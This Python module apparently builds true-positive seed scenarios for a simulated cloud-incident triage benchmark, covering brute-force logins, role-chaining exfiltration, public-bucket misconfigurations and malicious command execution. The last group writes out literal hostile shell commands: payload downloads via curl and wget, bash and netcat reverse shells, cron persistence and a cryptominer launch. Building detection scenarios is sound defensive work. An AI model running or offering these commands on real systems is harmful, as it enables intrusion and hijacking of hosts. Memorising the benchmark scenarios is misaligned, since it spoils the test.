"""Hand-written true-positive seed scenarios, four per category.

Each seed is a small incident script: who did what, from where, and in which
order.  Declared names are deliberately outside the vocabulary used for
generated filler resources, so renaming can be checked for leakage.
"""

from __future__ import annotations

from typing import Any, Iterable

from .cloud import (
    AccountDecl,
    Actor,
    ActorKind,
    BucketDecl,
    ControlAction,
    EnvironmentSpec,
    InstanceDecl,
    IngressRule,
    ObjectDecl,
    PrincipalKind,
    PrincipalRef,
    RoleDecl,
    SecurityGroupDecl,
    UserDecl,
)
from .core import MS_PER_SECOND, Category, Verdict
from .scenario import ALERT_TEMPLATES, AttackStep, Intent, ScenarioSpec

MAL = Intent.MALICIOUS
BEN = Intent.BENIGN


def user(name: str, ip: str, account: str = "primary") -> Actor:
    return Actor(ActorKind.USER, name, account, ip)


def role(name: str, ip: str, account: str = "primary", session: str | None = None) -> Actor:
    return Actor(ActorKind.ROLE, name, account, ip, session)


def anonymous(ip: str) -> Actor:
    return Actor(ActorKind.ANONYMOUS, None, "primary", ip)


class Script:
    """Accumulates steps with auto-numbered ids and second-granularity offsets."""

    def __init__(self, prefix: str = "s"):
        self.steps: list[AttackStep] = []
        self.prefix = prefix

    def add(self, at_s: float, actor: Actor, action: str, params: dict[str, Any] | None = None,
            after: Iterable[str] = (), intent: Intent = MAL) -> str:
        sid = f"{self.prefix}{len(self.steps) + 1:02d}"
        self.steps.append(AttackStep(sid, actor, ControlAction(action, dict(params or {})),
                                     int(at_s * MS_PER_SECOND), list(after), intent))
        return sid

    @property
    def last(self) -> str:
        return self.steps[-1].step_id


def objects(prefix: str, n: int, ext: str = ".csv", size: int = 250_000) -> list[ObjectDecl]:
    return [ObjectDecl(f"{prefix}/part-{i:03d}{ext}", size + 977 * i) for i in range(n)]


def _spec(sid: str, category: Category, env: EnvironmentSpec, script: Script, trigger: list[str]) -> ScenarioSpec:
    return ScenarioSpec(
        scenario_id=sid,
        category=category,
        env_spec=env,
        steps=script.steps,
        alert_template=ALERT_TEMPLATES[category],
        alert_trigger=trigger,
        intended_verdict=Verdict.TP,
        lineage=[f"seed:{sid}"],
    )


# --- brute force ----------------------------------------------------------------------


def bf_stuffing_backdoor() -> ScenarioSpec:
    ip = "203.0.113.77"
    env = EnvironmentSpec(
        Category.BRUTE_FORCE,
        users=[UserDecl("dana.whitfield", policies=["PowerUserAccess", "IAMFullAccess"], password="Tulip-Harbor-81")],
        buckets=[BucketDecl("northwind-payroll-archive", objects=objects("payroll/2024", 6, ".xlsx"))],
    )
    s = Script()
    victim = user("dana.whitfield", ip)
    fails = [s.add(15 * i, victim, "ConsoleLogin", {"password": f"Summer20{i:02d}!"}) for i in range(20)]
    login = s.add(310, victim, "ConsoleLogin", {"password": "Tulip-Harbor-81"}, after=[fails[-1]])
    recon = s.add(400, victim, "ListUsers", after=[login])
    mk = s.add(460, victim, "CreateUser", {"user": "ops-sync-agent"}, after=[recon])
    key = s.add(470, victim, "CreateAccessKey", {"user": "ops-sync-agent"}, after=[mk])
    esc = s.add(480, victim, "AttachUserPolicy", {"user": "ops-sync-agent", "policy": "AdministratorAccess"}, after=[mk])
    backdoor = user("ops-sync-agent", "198.51.100.141")
    lb = s.add(900, backdoor, "ListBuckets", after=[key, esc])
    lo = s.add(930, backdoor, "ListObjectsV2", {"bucket": "northwind-payroll-archive"}, after=[lb])
    for i in range(3):
        s.add(960 + 20 * i, backdoor, "GetObject", {"bucket": "northwind-payroll-archive", "key": f"payroll/2024/part-{i:03d}.xlsx"}, after=[lo])
    return _spec("bf-stuffing-backdoor", Category.BRUTE_FORCE, env, s, fails)


def bf_password_spray() -> ScenarioSpec:
    ip = "198.51.100.23"
    env = EnvironmentSpec(
        Category.BRUTE_FORCE,
        users=[
            UserDecl("marcus.oyelaran", policies=["PowerUserAccess", "IAMFullAccess", "CloudTrailFullAccess"], password="Quartz!Lantern7"),
            UserDecl("lena.marchetti", policies=["ReadOnlyAccess"], password="Velvet#Canyon22", mfa=True),
            UserDecl("tobias.renwick", policies=["ReadOnlyAccess"], password="Orchid.Meadow.9"),
            UserDecl("release-bot", policies=["AmazonS3FullAccess"]),
        ],
    )
    s = Script()
    fails = [s.add(20 * i, user("marcus.oyelaran", ip), "ConsoleLogin", {"password": f"Winter{2020 + i}"}) for i in range(12)]
    others = []
    for j, (name, n) in enumerate([("lena.marchetti", 4), ("tobias.renwick", 4)]):
        for i in range(n):
            others.append(s.add(250 + 40 * j + 9 * i, user(name, ip), "ConsoleLogin", {"password": f"Winter{2020 + i}"}))
    attacker = user("marcus.oyelaran", ip)
    login = s.add(420, attacker, "ConsoleLogin", {"password": "Quartz!Lantern7"}, after=[fails[-1]])
    recon = s.add(500, attacker, "GetAccountAuthorizationDetails", after=[login])
    key = s.add(560, attacker, "CreateAccessKey", {"user": "release-bot"}, after=[recon])
    trail = s.add(600, attacker, "StopLogging", {"trail": "management-events"}, after=[login])
    bot = user("release-bot", "203.0.113.200")
    s.add(1200, bot, "ListBuckets", after=[key, trail])
    s.add(1230, bot, "DescribeInstances", after=[key])
    return _spec("bf-password-spray", Category.BRUTE_FORCE, env, s, fails)


def bf_escalation() -> ScenarioSpec:
    ip = "192.0.2.61"
    env = EnvironmentSpec(
        Category.BRUTE_FORCE,
        users=[UserDecl("priscilla.vantongeren", policies=["ReadOnlyAccess", "IAMFullAccess"], password="Marble&Finch33")],
        instances=[InstanceDecl("ledger-host-a", profile="LedgerNodeRole")],
        roles=[RoleDecl("LedgerNodeRole", policies=["AmazonSSMManagedInstanceCore"])],
    )
    s = Script()
    victim = user("priscilla.vantongeren", ip)
    fails = [s.add(8 * i, victim, "ConsoleLogin", {"password": f"pass{i:04d}"}) for i in range(15)]
    login = s.add(200, victim, "ConsoleLogin", {"password": "Marble&Finch33"}, after=[fails[-1]])
    pol = s.add(260, victim, "ListAttachedUserPolicies", {"user": "priscilla.vantongeren"}, after=[login])
    esc = s.add(300, victim, "AttachUserPolicy", {"user": "priscilla.vantongeren", "policy": "AdministratorAccess"}, after=[pol])
    mk = s.add(360, victim, "CreateUser", {"user": "cloudwatch-exporter"}, after=[esc])
    s.add(365, victim, "CreateAccessKey", {"user": "cloudwatch-exporter"}, after=[mk])
    s.add(420, victim, "DescribeInstances", after=[esc])
    s.add(450, victim, "DescribeSecurityGroups", after=[esc])
    return _spec("bf-escalation", Category.BRUTE_FORCE, env, s, fails)


def bf_takeover_exfil() -> ScenarioSpec:
    ips = ["100.64.17.9", "100.64.17.10"]
    env = EnvironmentSpec(
        Category.BRUTE_FORCE,
        users=[
            UserDecl("gideon.ashcombe", policies=["AmazonS3FullAccess", "IAMFullAccess"], password="Cobalt~River~5"),
            UserDecl("finance-admin", policies=["AdministratorAccess"], password="Initial#Pass#0", mfa=True),
        ],
        buckets=[BucketDecl("contoso-board-minutes", objects=objects("minutes", 14, ".pdf"))],
    )
    s = Script()
    fails = [s.add(10 * i, user("gideon.ashcombe", ips[i % 2]), "ConsoleLogin", {"password": f"Gideon{i}!"}) for i in range(25)]
    attacker = user("gideon.ashcombe", ips[1])
    login = s.add(300, attacker, "ConsoleLogin", {"password": "Cobalt~River~5"}, after=[fails[-1]])
    prof = s.add(380, attacker, "UpdateLoginProfile", {"user": "finance-admin", "password": "Taken0ver!"}, after=[login])
    lb = s.add(440, attacker, "ListBuckets", after=[login])
    lo = s.add(470, attacker, "ListObjects", {"bucket": "contoso-board-minutes"}, after=[lb])
    for i in range(12):
        s.add(500 + 5 * i, attacker, "GetObject", {"bucket": "contoso-board-minutes", "key": f"minutes/part-{i:03d}.pdf"}, after=[lo])
    s.add(600, user("finance-admin", ips[1]), "ConsoleLogin", {"password": "Taken0ver!"}, after=[prof])
    return _spec("bf-takeover-exfil", Category.BRUTE_FORCE, env, s, fails)


# --- unauthorized access ------------------------------------------------------------------


def ua_role_chain_exfil() -> ScenarioSpec:
    ip = "203.0.113.45"
    env = EnvironmentSpec(
        Category.UNAUTHORIZED_ACCESS,
        users=[UserDecl("ci-deployer", policies=["AmazonEC2FullAccess"])],
        roles=[
            RoleDecl("FinanceReadRole", policies=["ReadOnlyAccess"], trusted=[PrincipalRef(PrincipalKind.USER, "ci-deployer")]),
            RoleDecl("DataLakeAdminRole", policies=["AmazonS3FullAccess"], trusted=[PrincipalRef(PrincipalKind.ROLE, "FinanceReadRole")]),
        ],
        buckets=[BucketDecl("fabrikam-ledger-vault", objects=objects("ledger", 14, ".parquet"))],
    )
    s = Script()
    hop1 = s.add(0, user("ci-deployer", ip), "AssumeRole", {"role": "FinanceReadRole", "session_name": "dbg-7731"})
    who = s.add(40, role("FinanceReadRole", ip), "GetCallerIdentity", after=[hop1])
    s.add(70, role("FinanceReadRole", ip), "ListRoles", after=[hop1])
    hop2 = s.add(120, role("FinanceReadRole", ip), "AssumeRole", {"role": "DataLakeAdminRole", "session_name": "dbg-7732"}, after=[who])
    lake = role("DataLakeAdminRole", ip)
    lb = s.add(180, lake, "ListBuckets", after=[hop2])
    lo = s.add(200, lake, "ListObjectsV2", {"bucket": "fabrikam-ledger-vault"}, after=[lb])
    for i in range(12):
        s.add(230 + 7 * i, lake, "GetObject", {"bucket": "fabrikam-ledger-vault", "key": f"ledger/part-{i:03d}.parquet"}, after=[lo])
    return _spec("ua-role-chain-exfil", Category.UNAUTHORIZED_ACCESS, env, s, [hop1])


def ua_contractor_tamper() -> ScenarioSpec:
    ip = "100.71.44.18"
    env = EnvironmentSpec(
        Category.UNAUTHORIZED_ACCESS,
        accounts=[AccountDecl("contractor", external=True)],
        users=[UserDecl("tmp-contractor", account="contractor", policies=["ReadOnlyAccess"])],
        roles=[RoleDecl("VendorBridgeRole", policies=["AmazonS3FullAccess", "ReadOnlyAccess"],
                        trusted=[PrincipalRef(PrincipalKind.USER, "tmp-contractor", "contractor")])],
        buckets=[BucketDecl("tailspin-claims-intake", objects=objects("claims", 8, ".json"))],
    )
    s = Script()
    hop = s.add(0, user("tmp-contractor", ip, "contractor"), "AssumeRole", {"role": "VendorBridgeRole", "session_name": "vendor-sync"})
    r = role("VendorBridgeRole", ip)
    s.add(60, r, "GetRole", {"role": "VendorBridgeRole"}, after=[hop])
    s.add(80, r, "DescribeInstances", after=[hop])
    s.add(95, r, "CreateUser", {"user": "vendor-mirror"}, after=[hop])
    lo = s.add(120, r, "ListObjects", {"bucket": "tailspin-claims-intake"}, after=[hop])
    for i in range(4):
        s.add(150 + 10 * i, r, "GetObject", {"bucket": "tailspin-claims-intake", "key": f"claims/part-{i:03d}.json"}, after=[lo])
    put = s.add(300, r, "PutObject", {"bucket": "tailspin-claims-intake", "key": "READ_ME_RESTORE.txt", "size": 912}, after=[lo])
    for i in range(3):
        s.add(320 + 5 * i, r, "DeleteObject", {"bucket": "tailspin-claims-intake", "key": f"claims/part-{i + 4:03d}.json"}, after=[put])
    return _spec("ua-contractor-tamper", Category.UNAUTHORIZED_ACCESS, env, s, [hop])


def ua_shared_services_pivot() -> ScenarioSpec:
    ip = "192.0.2.130"
    env = EnvironmentSpec(
        Category.UNAUTHORIZED_ACCESS,
        accounts=[AccountDecl("shared-services")],
        users=[UserDecl("analytics-etl", policies=["AmazonS3ReadOnlyAccess"])],
        roles=[
            RoleDecl("QuarterlyReportRole", policies=["ReadOnlyAccess"], trusted=[PrincipalRef(PrincipalKind.USER, "analytics-etl")]),
            RoleDecl("ArtifactMirrorRole", account="shared-services", policies=["AmazonS3FullAccess"],
                     trusted=[PrincipalRef(PrincipalKind.ROLE, "QuarterlyReportRole")]),
        ],
        buckets=[BucketDecl("adventureworks-signing-keys", account="shared-services", objects=objects("keys", 6, ".pem", 4_000))],
    )
    s = Script()
    hop1 = s.add(0, user("analytics-etl", ip), "AssumeRole", {"role": "QuarterlyReportRole", "session_name": "etl-42"})
    q = role("QuarterlyReportRole", ip)
    s.add(30, q, "ListRoles", after=[hop1])
    s.add(45, q, "GetRole", {"role": "QuarterlyReportRole"}, after=[hop1])
    hop2 = s.add(90, q, "AssumeRole", {"role": "ArtifactMirrorRole", "account": "shared-services", "session_name": "mirror"}, after=[hop1])
    m = role("ArtifactMirrorRole", ip, "shared-services")
    lo = s.add(130, m, "ListObjectsV2", {"bucket": "adventureworks-signing-keys"}, after=[hop2])
    for i in range(5):
        s.add(150 + 4 * i, m, "GetObject", {"bucket": "adventureworks-signing-keys", "key": f"keys/part-{i:03d}.pem"}, after=[lo])
    s.add(200, m, "CreateBucket", {"bucket": "adventureworks-keys-mirror"}, after=[hop2])
    return _spec("ua-shared-services-pivot", Category.UNAUTHORIZED_ACCESS, env, s, [hop1])


def ua_trust_backdoor() -> ScenarioSpec:
    ip = "198.51.100.99"
    env = EnvironmentSpec(
        Category.UNAUTHORIZED_ACCESS,
        accounts=[AccountDecl("attacker-lab", external=True)],
        users=[
            UserDecl("metrics-forwarder", policies=["AmazonSSMFullAccess"]),
            UserDecl("lab-operator", account="attacker-lab", policies=["AdministratorAccess"]),
        ],
        roles=[RoleDecl("BackupOperatorRole", policies=["AmazonS3FullAccess", "IAMFullAccess"],
                        trusted=[PrincipalRef(PrincipalKind.USER, "metrics-forwarder")])],
        buckets=[BucketDecl("litware-db-snapshots", objects=objects("rds", 12, ".sql.gz", 9_000_000))],
    )
    s = Script()
    hop = s.add(0, user("metrics-forwarder", ip), "AssumeRole", {"role": "BackupOperatorRole", "session_name": "bk-ops"})
    r = role("BackupOperatorRole", ip)
    s.add(20, r, "ListAttachedRolePolicies", {"role": "BackupOperatorRole"}, after=[hop])
    trust = s.add(60, r, "UpdateAssumeRolePolicy", {"role": "BackupOperatorRole", "trusted": "lab-operator", "trusted_account": "attacker-lab"}, after=[hop])
    ext_ip = "198.51.100.100"
    hop2 = s.add(600, user("lab-operator", ext_ip, "attacker-lab"), "AssumeRole", {"role": "BackupOperatorRole", "session_name": "lab"}, after=[trust])
    r2 = role("BackupOperatorRole", ext_ip, session="lab")
    lo = s.add(640, r2, "ListObjectsV2", {"bucket": "litware-db-snapshots"}, after=[hop2])
    for i in range(11):
        s.add(660 + 9 * i, r2, "SelectObjectContent", {"bucket": "litware-db-snapshots", "key": f"rds/part-{i:03d}.sql.gz"}, after=[lo])
    return _spec("ua-trust-backdoor", Category.UNAUTHORIZED_ACCESS, env, s, [hop])


# --- misconfiguration --------------------------------------------------------------------


def mis_public_policy() -> ScenarioSpec:
    env = EnvironmentSpec(
        Category.MISCONFIGURATION,
        users=[UserDecl("qa-automation", policies=["AmazonS3FullAccess"])],
        buckets=[BucketDecl("woodgrove-customer-exports", objects=objects("exports", 9))],
    )
    s = Script()
    dev = user("qa-automation", "203.0.113.9")
    recon = s.add(0, dev, "GetBucketPolicy", {"bucket": "woodgrove-customer-exports"})
    pub = s.add(60, dev, "PutBucketPolicy", {"bucket": "woodgrove-customer-exports", "public": True}, after=[recon])
    for n, ip in enumerate(["192.0.2.14", "100.96.12.201"]):
        lo = s.add(3600 + 900 * n, anonymous(ip), "ListObjects", {"bucket": "woodgrove-customer-exports"}, after=[pub])
        for i in range(3):
            s.add(3620 + 900 * n + 30 * i, anonymous(ip), "GetObject",
                  {"bucket": "woodgrove-customer-exports", "key": f"exports/part-{3 * n + i:03d}.csv"}, after=[lo])
    return _spec("mis-public-policy", Category.MISCONFIGURATION, env, s, [pub])


def mis_acl_and_firewall() -> ScenarioSpec:
    env = EnvironmentSpec(
        Category.MISCONFIGURATION,
        users=[UserDecl("sandbox-admin", policies=["AmazonS3FullAccess", "AmazonEC2FullAccess", "IAMFullAccess"])],
        roles=[RoleDecl("ReportBuilderRole", policies=["ReadOnlyAccess"])],
        buckets=[BucketDecl("proseware-hr-scans", objects=objects("scans", 5, ".pdf"))],
        security_groups=[SecurityGroupDecl("hr-portal-sg", ingress=[IngressRule(443, "10.0.0.0/8")])],
    )
    s = Script()
    adm = user("sandbox-admin", "100.64.17.77")
    acl = s.add(0, adm, "PutBucketAcl", {"bucket": "proseware-hr-scans", "acl": "public-read"})
    s.add(30, adm, "AuthorizeSecurityGroupIngress", {"group": "hr-portal-sg", "port": 22, "cidr": "0.0.0.0/0"}, after=[acl])
    s.add(50, adm, "AttachRolePolicy", {"role": "ReportBuilderRole", "policy": "AmazonS3FullAccess"}, after=[acl])
    anon = anonymous("198.51.100.66")
    lo = s.add(1800, anon, "ListObjectsV2", {"bucket": "proseware-hr-scans"}, after=[acl])
    for i in range(4):
        s.add(1820 + 15 * i, anon, "GetObject", {"bucket": "proseware-hr-scans", "key": f"scans/part-{i:03d}.pdf"}, after=[lo])
    return _spec("mis-acl-and-firewall", Category.MISCONFIGURATION, env, s, [acl])


def mis_backup_leak() -> ScenarioSpec:
    env = EnvironmentSpec(
        Category.MISCONFIGURATION,
        users=[
            UserDecl("storage-migrator", policies=["AmazonS3FullAccess", "AmazonEC2FullAccess"]),
        ],
        buckets=[BucketDecl("relecloud-nightly-backups", objects=objects("nightly", 13, ".tar.gz", 40_000_000))],
        security_groups=[SecurityGroupDecl("backup-gw-sg")],
    )
    s = Script()
    mig = user("storage-migrator", "192.0.2.88")
    s.add(0, mig, "ListBuckets")
    pub = s.add(40, mig, "PutBucketPolicy", {"bucket": "relecloud-nightly-backups", "public": True}, after=["s01"])
    s.add(70, mig, "AuthorizeSecurityGroupIngress", {"group": "backup-gw-sg", "port": 3389, "cidr": "0.0.0.0/0"}, after=[pub])
    anon = anonymous("203.0.113.150")
    for i in range(11):
        s.add(5400 + 12 * i, anon, "GetObject", {"bucket": "relecloud-nightly-backups", "key": f"nightly/part-{i:03d}.tar.gz"}, after=[pub])
    return _spec("mis-backup-leak", Category.MISCONFIGURATION, env, s, [pub])


def mis_cross_account_share() -> ScenarioSpec:
    env = EnvironmentSpec(
        Category.MISCONFIGURATION,
        accounts=[AccountDecl("unknown-vendor", external=True)],
        users=[
            UserDecl("data-steward", policies=["AmazonS3FullAccess", "IAMFullAccess"]),
            UserDecl("harvester", account="unknown-vendor", policies=["AdministratorAccess"]),
        ],
        roles=[RoleDecl("DashboardRole", policies=["AmazonS3ReadOnlyAccess"])],
        buckets=[BucketDecl("lamna-genomics-raw", objects=objects("samples", 7, ".bam", 12_000_000))],
    )
    s = Script()
    st = user("data-steward", "100.71.44.90")
    share = s.add(0, st, "PutBucketPolicy", {"bucket": "lamna-genomics-raw", "principal_accounts": ["unknown-vendor"]})
    pub = s.add(45, st, "PutBucketAcl", {"bucket": "lamna-genomics-raw", "acl": "public-read"}, after=[share])
    s.add(70, st, "AttachRolePolicy", {"role": "DashboardRole", "policy": "AdministratorAccess"}, after=[pub])
    h = user("harvester", "100.71.44.91", "unknown-vendor")
    for i in range(3):
        s.add(900 + 20 * i, h, "GetObject", {"bucket": "lamna-genomics-raw", "key": f"samples/part-{i:03d}.bam"}, after=[share])
    anon = anonymous("192.0.2.240")
    for i in range(3):
        s.add(1500 + 20 * i, anon, "GetObject", {"bucket": "lamna-genomics-raw", "key": f"samples/part-{i + 3:03d}.bam"}, after=[pub])
    return _spec("mis-cross-account-share", Category.MISCONFIGURATION, env, s, [pub])


# --- malicious file execution -----------------------------------------------------------


def _ssm_env(extra_users: list[UserDecl], *, groups: list[SecurityGroupDecl] | None = None,
             hosts: list[str] = ("orders-api-node",)) -> EnvironmentSpec:
    return EnvironmentSpec(
        Category.MALICIOUS_FILE_EXECUTION,
        users=extra_users,
        roles=[RoleDecl("FleetAgentRole", policies=["AmazonSSMManagedInstanceCore"])],
        security_groups=groups or [],
        instances=[InstanceDecl(h, profile="FleetAgentRole", security_groups=[g.name for g in groups or []][:1]) for h in hosts],
    )


def mfe_dropper_reverse_shell() -> ScenarioSpec:
    env = _ssm_env([UserDecl("deploy-legacy", policies=["AmazonSSMFullAccess"])])
    ip = "203.0.113.66"
    op = user("deploy-legacy", ip)
    s = Script()
    s.add(0, op, "DescribeInstances")
    drop = s.add(60, op, "SendCommand", {"instance": "orders-api-node", "commands": [
        "curl -s http://203.0.113.66/k.sh -o /tmp/.k.sh", "chmod +x /tmp/.k.sh && /tmp/.k.sh"]}, after=["s01"])
    s.add(180, op, "SendCommand", {"instance": "orders-api-node", "commands": [
        "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"]}, after=[drop])
    s.add(240, op, "SendCommand", {"instance": "orders-api-node", "commands": [
        "(crontab -l; echo '*/5 * * * * /tmp/.k.sh') | crontab -"]}, after=[drop])
    return _spec("mfe-dropper-reverse-shell", Category.MALICIOUS_FILE_EXECUTION, env, s, [drop])


def mfe_association_credential_theft() -> ScenarioSpec:
    env = _ssm_env([UserDecl("patch-orchestrator", policies=["AmazonSSMFullAccess", "AmazonEC2FullAccess"])],
                   hosts=["inventory-sync-01"])
    op = user("patch-orchestrator", "198.51.100.201")
    s = Script()
    assoc = s.add(0, op, "CreateAssociation", {"instance": "inventory-sync-01", "commands": [
        "wget -q http://198.51.100.201/agent -O /usr/local/bin/agentd", "systemctl enable --now agentd"]})
    s.add(90, op, "ModifyInstanceAttribute", {"instance": "inventory-sync-01", "user_data": "#!/bin/sh\n/usr/local/bin/agentd &"}, after=[assoc])
    stolen = role("FleetAgentRole", "198.51.100.202", session="inventory-sync-01")
    for i, (name, params) in enumerate([("GetCallerIdentity", {}), ("ListBuckets", {}), ("DescribeInstances", {})]):
        s.add(900 + 30 * i, stolen, name, params, after=[assoc])
    return _spec("mfe-association-credential-theft", Category.MALICIOUS_FILE_EXECUTION, env, s, [assoc])


def mfe_cryptominer() -> ScenarioSpec:
    groups = [SecurityGroupDecl("render-farm-sg", ingress=[IngressRule(443, "10.0.0.0/8")])]
    env = _ssm_env([UserDecl("render-scheduler", policies=["AmazonSSMFullAccess", "AmazonEC2FullAccess"])], groups=groups,
                   hosts=["render-node-1"])
    op = user("render-scheduler", "100.96.12.40")
    s = Script()
    run = s.add(0, op, "SendCommand", {"instance": "render-node-1", "commands": [
        "curl -sL https://100.96.12.40/xmrig.tar.gz | tar xz -C /opt", "/opt/xmrig -o pool.example.net:3333 --background"]})
    s.add(120, op, "DescribeSecurityGroups", after=[run])
    s.add(150, op, "AuthorizeSecurityGroupIngress", {"group": "render-farm-sg", "port": 3333, "cidr": "0.0.0.0/0"}, after=[run])
    s.add(300, op, "RunInstances", {"name": "render-burst", "count": 6, "instance_type": "c5.xlarge",
                                     "security_groups": ["render-farm-sg"]}, after=[run])
    return _spec("mfe-cryptominer", Category.MALICIOUS_FILE_EXECUTION, env, s, [run])


def mfe_session_cover_tracks() -> ScenarioSpec:
    env = _ssm_env([UserDecl("ops-breakglass", policies=["AdministratorAccess"])], hosts=["billing-batch-3"])
    op = user("ops-breakglass", "192.0.2.177")
    s = Script()
    sess = s.add(0, op, "StartSession", {"instance": "billing-batch-3"})
    cmd = s.add(60, op, "SendCommand", {"instance": "billing-batch-3", "commands": [
        "nc -e /bin/sh 192.0.2.177 9001"]}, after=[sess])
    s.add(120, op, "StopLogging", {"trail": "management-events"}, after=[cmd])
    s.add(150, op, "ListUsers", after=[cmd])
    s.add(160, op, "TerminateInstances", {"instance": "billing-batch-3"}, after=[cmd])
    return _spec("mfe-session-cover-tracks", Category.MALICIOUS_FILE_EXECUTION, env, s, [cmd])


SEED_BUILDERS = {
    Category.BRUTE_FORCE: (bf_stuffing_backdoor, bf_password_spray, bf_escalation, bf_takeover_exfil),
    Category.UNAUTHORIZED_ACCESS: (ua_role_chain_exfil, ua_contractor_tamper, ua_shared_services_pivot, ua_trust_backdoor),
    Category.MISCONFIGURATION: (mis_public_policy, mis_acl_and_firewall, mis_backup_leak, mis_cross_account_share),
    Category.MALICIOUS_FILE_EXECUTION: (
        mfe_dropper_reverse_shell, mfe_association_credential_theft, mfe_cryptominer, mfe_session_cover_tracks,
    ),
}


def default_seeds() -> list[ScenarioSpec]:
    return [build() for builders in SEED_BUILDERS.values() for build in builders]
